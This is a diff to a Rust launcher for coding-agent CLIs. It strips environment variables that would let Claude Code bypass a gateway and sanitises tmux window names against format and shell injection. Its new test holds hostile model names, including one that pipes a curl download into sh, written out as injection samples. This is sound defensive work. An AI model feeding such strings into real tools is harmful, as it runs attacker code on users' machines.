@@ -28,6 +28,20 @@ use serde_json::json;
 /// The environment variable Codex CLI and OpenCode read the key from.
 pub const KEY_ENV: &str = "TOLLGATE_API_KEY";
 
+/// Variables removed from Claude Code's inherited environment: each would make it send its
+/// requests elsewhere or with another credential (`ANTHROPIC_API_KEY` as `x-api-key`, an OAuth
+/// token, the Bedrock / Vertex AI / Foundry back ends and their base URLs). `ANTHROPIC_CUSTOM_HEADERS`
+/// is kept (extra headers still go to the gateway).
+pub const CLAUDE_BYPASS_ENV: [&str; 7] = [
+    "ANTHROPIC_API_KEY",
+    "CLAUDE_CODE_OAUTH_TOKEN",
+    "CLAUDE_CODE_USE_BEDROCK",
+    "CLAUDE_CODE_USE_VERTEX",
+    "CLAUDE_CODE_USE_FOUNDRY",
+    "ANTHROPIC_BEDROCK_BASE_URL",
+    "ANTHROPIC_VERTEX_BASE_URL",
+];
+
 /// The MCP server name Claude Code registers the gateway's tools under (`mcp__tollgate__…`;
 /// the served tool names are sized for this prefix: `tollgate_proto::mcp`).
 pub const MCP_SERVER_NAME: &str = "tollgate";
@@ -148,8 +162,9 @@ pub fn plan(
             if let Some(small) = &choices.small_model {
                 env.push(("ANTHROPIC_DEFAULT_HAIKU_MODEL".into(), small.clone()));
             }
-            // An inherited x-api-key credential would be sent too (and asked about).
-            env_remove.push("ANTHROPIC_API_KEY");
+            // Inherited settings that would make Claude Code bypass the gateway (another
+            // credential, or Bedrock / Vertex AI / Foundry instead of ANTHROPIC_BASE_URL).
+            env_remove.extend(CLAUDE_BYPASS_ENV);
             if choices.mcp {
                 args.push("--mcp-config".into());
                 args.push(mcp_config(gateway));
@@ -236,7 +251,10 @@ fn toml_string(s: &str) -> String {
 }
 
 /// The tmux window name of a model: its tier (`opus`, `sonnet`, `haiku`) when the name says
-/// one, else the model name (without a `provider/` prefix), at most 20 characters.
+/// one, else the model name (without a `provider/` prefix), at most 20 characters of
+/// `[A-Za-z0-9._-]` (anything else becomes `-`; never empty). tmux format-expands window names
+/// (`#(cmd)` runs a shell command, `#{..}` reads variables), and the model name comes from the
+/// gateway, so nothing but these characters may reach `new-window -n`.
 pub fn tier(model: &str) -> String {
     let lower = model.to_ascii_lowercase();
     for t in ["opus", "sonnet", "haiku"] {
@@ -245,10 +263,22 @@ pub fn tier(model: &str) -> String {
         }
     }
     let bare = model.rsplit('/').next().unwrap_or(model);
-    bare.chars()
-        .map(|c| if c.is_ascii_graphic() { c } else { '-' })
+    let name: String = bare
+        .chars()
+        .map(|c| {
+            if c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-') {
+                c
+            } else {
+                '-'
+            }
+        })
         .take(20)
-        .collect()
+        .collect();
+    if name.is_empty() {
+        "model".to_owned()
+    } else {
+        name
+    }
 }
 
 #[cfg(test)]
@@ -290,7 +320,9 @@ mod tests {
             env(&p, "ANTHROPIC_DEFAULT_HAIKU_MODEL"),
             Some("claude-haiku-4-5")
         );
-        assert_eq!(p.env_remove, ["ANTHROPIC_API_KEY"]);
+        assert_eq!(p.env_remove, CLAUDE_BYPASS_ENV);
+        assert!(p.env_remove.contains(&"CLAUDE_CODE_USE_BEDROCK"));
+        assert!(!p.env_remove.contains(&"ANTHROPIC_CUSTOM_HEADERS"));
         assert_eq!(p.args[0], "--mcp-config");
         let mcp: serde_json::Value = serde_json::from_str(&p.args[1]).unwrap();
         assert_eq!(
@@ -354,6 +386,28 @@ mod tests {
         let why = plan(&choices(Harness::Gemini), KEY, None, &[]).unwrap_err();
         assert!(why.contains("Gemini API"), "{why}");
         assert!(!Harness::OFFERED.contains(&Harness::Gemini));
+    }
+
+    #[test]
+    fn tmux_window_names_cannot_carry_format_or_shell_syntax() {
+        for model in [
+            "#(curl${IFS}a.bc|sh)",
+            "#{pane_current_command}",
+            "a$b|c;d`e`",
+            "vendor/#(id)",
+            "",
+            "p/",
+        ] {
+            let name = tier(model);
+            assert!(!name.is_empty(), "{model:?}");
+            assert!(
+                name.chars()
+                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-')),
+                "{model:?} -> {name:?}"
+            );
+        }
+        assert_eq!(tier("#(curl${IFS}a.bc|sh)"), "--curl--IFS-a.bc-sh-");
+        assert_eq!(tier("gpt-5.1_mini"), "gpt-5.1_mini");
     }
 
     #[test]
